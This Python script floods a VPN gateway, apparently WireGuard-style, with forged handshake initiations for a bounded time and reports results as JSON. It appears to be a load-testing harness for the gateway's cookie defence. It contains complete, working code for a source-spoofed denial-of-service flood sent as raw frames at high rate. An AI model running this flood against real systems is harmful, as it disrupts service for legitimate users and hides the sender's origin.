"""A flood of handshake initiations with a valid MAC1 and nothing behind it, bounded in time and number; prints what it did, as JSON.

    flood.py spoofed KEY HOST PORT SECONDS PACE [PREFIX]   whole Ethernet frames, from random source addresses of PREFIX
    flood.py honest  KEY HOST PORT SECONDS PACE            from one real address that obeys cookies: each datagram has a valid MAC2

KEY is the public key of the gateway (base64), PACE packets per second, 0 for as many as possible. The frames are made beforehand and
handed to the kernel many at a time, so that the flood and not its making is what the machine is busy with. SIGTERM ends it early.
"""

import base64
import contextlib
import ctypes
import hashlib
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Sequence
from pathlib import Path

from nacl.bindings import crypto_aead_xchacha20poly1305_ietf_decrypt

MAX_SECONDS = 60.0
MAX_PACKETS = 30_000_000
FRAMES = 8192
BATCH = 64  # frames a call: short enough to keep a pace
INITIATION, COOKIE_REPLY = 1, 3
COOKIE_REPLY_BYTES = 64
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20  # linux/if_packet.h
ETHERTYPE_IPV4, UDP = 0x0800, 17
SOURCES = "198.18.0.0/15"  # RFC 2544: for measurements
EVERYWHERE = "16.0.0.0/4"  # 4096 networks of 16 bits


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Msghdr(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iov", ctypes.POINTER(_Iovec)),
        ("iov_length", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Mmsghdr(ctypes.Structure):
    _fields_ = (("header", _Msghdr), ("sent", ctypes.c_uint32))


class Batches:
    """Messages that sendmmsg(2) takes BATCH at a time, round and round."""

    def __init__(self, messages: Sequence[bytes]) -> None:
        self._octets = [ctypes.create_string_buffer(message, len(message)) for message in messages]
        self._iov = (_Iovec * len(messages))()
        self._messages = (_Mmsghdr * len(messages))()
        for i, octets in enumerate(self._octets):
            self._iov[i] = _Iovec(ctypes.addressof(octets), len(octets))
            self._messages[i].header.iov = ctypes.pointer(self._iov[i])
            self._messages[i].header.iov_length = 1
        self._send = ctypes.CDLL(None, use_errno=True).sendmmsg
        self._next = 0

    def send(self, descriptor: int) -> int:
        """How many the kernel took. What it refuses for want of room is lost, as on a wire."""
        if self._next + BATCH > len(self._messages):
            self._next = 0
        at = ctypes.byref(self._messages, self._next * ctypes.sizeof(_Mmsghdr))
        self._next += BATCH
        return max(0, self._send(descriptor, at, BATCH, 0))


def blake2s(key: bytes, *data: bytes) -> bytes:
    return hashlib.blake2s(b"".join(data), digest_size=16, key=key).digest()


def label(name: bytes, public_key: bytes) -> bytes:
    return hashlib.blake2s(name + public_key).digest()


def initiation(public_key: bytes, cookie: bytes = b"") -> bytes:
    """148 octets that only a Diffie-Hellman tells from an initiation."""
    body = struct.pack("<I", INITIATION) + os.urandom(4 + 32 + 48 + 28)
    signed = body + blake2s(label(b"mac1----", public_key), body)
    return signed + (blake2s(cookie, signed) if cookie else bytes(16))


def frame(destination: bytes, source: bytes, from_address: str, to_address: str, port: int, payload: bytes) -> bytes:
    """Ethernet, IPv4 and UDP around `payload`. A UDP checksum of 0 is none."""
    length = 20 + 8 + len(payload)
    addresses = socket.inet_aton(from_address) + socket.inet_aton(to_address)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, random.getrandbits(16), 0x4000, 64, UDP, 0) + addresses
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + header[12:]
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(payload), 0)
    return destination + source + struct.pack("!H", ETHERTYPE_IPV4) + header + udp + payload


def next_hop(host: str, port: int) -> tuple[str, bytes, bytes]:
    """The device towards a host on the link, its hardware address, and the host's."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.connect((host, port))
        for _ in range(100):
            asking.send(b"?")
            for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
                address, _, flags, hardware, _, device = line.split()
                if address == host and int(flags, 16) & 2:
                    ours = Path(f"/sys/class/net/{device}/address").read_text().strip()
                    return device, bytes.fromhex(ours.replace(":", "")), bytes.fromhex(hardware.replace(":", ""))
            time.sleep(0.02)
    sys.exit(f"{host} is not on the link")


def spoofed(public_key: bytes, host: str, port: int, prefix: str) -> tuple[socket.socket, Batches]:
    device, ours, theirs = next_hop(host, port)
    network = ipaddress.ip_network(prefix)
    frames = []
    for _ in range(FRAMES):
        source = str(network[random.randrange(network.num_addresses)])
        frames.append(frame(theirs, ours, source, host, port, initiation(public_key)))
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sender.bind((device, 0))
    sender.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    return sender, Batches(frames)


def honest(public_key: bytes, host: str, port: int) -> tuple[socket.socket, Batches]:
    """Asks until it is given a cookie, which takes a gateway under load."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.connect((host, port))
    sender.settimeout(0.05)
    deadline = time.monotonic() + MAX_SECONDS
    while time.monotonic() < deadline:
        asked = initiation(public_key)
        sender.send(asked)
        with contextlib.suppress(TimeoutError):
            reply = sender.recv(2048)
            if len(reply) == COOKIE_REPLY_BYTES and reply[0] == COOKIE_REPLY:
                key = label(b"cookie--", public_key)
                cookie = crypto_aead_xchacha20poly1305_ietf_decrypt(reply[32:], asked[116:132], reply[8:32], key)
                sender.setblocking(False)
                return sender, Batches([initiation(public_key, cookie) for _ in range(FRAMES)])
    sys.exit("no cookie was given: the gateway was never under load")


def main(mode: str, key: str, host: str, port: int, seconds: float, pace: int, prefix: str = SOURCES) -> None:
    public_key = base64.b64decode(key)
    sender, batches = spoofed(public_key, host, port, prefix) if mode == "spoofed" else honest(public_key, host, port)
    seconds = min(seconds, MAX_SECONDS)
    print(json.dumps({"event": "begun"}), flush=True)
    sent = 0
    stopped: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: stopped.append(number))
    began = time.monotonic()
    while (elapsed := time.monotonic() - began) < seconds and sent < MAX_PACKETS and not stopped:
        if pace and sent > elapsed * pace:
            time.sleep(0.0002)
        else:
            sent += batches.send(sender.fileno())
    print(json.dumps({"event": "ended", "sent": sent, "seconds": elapsed, "rate": round(sent / elapsed)}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6]), *sys.argv[7:8])
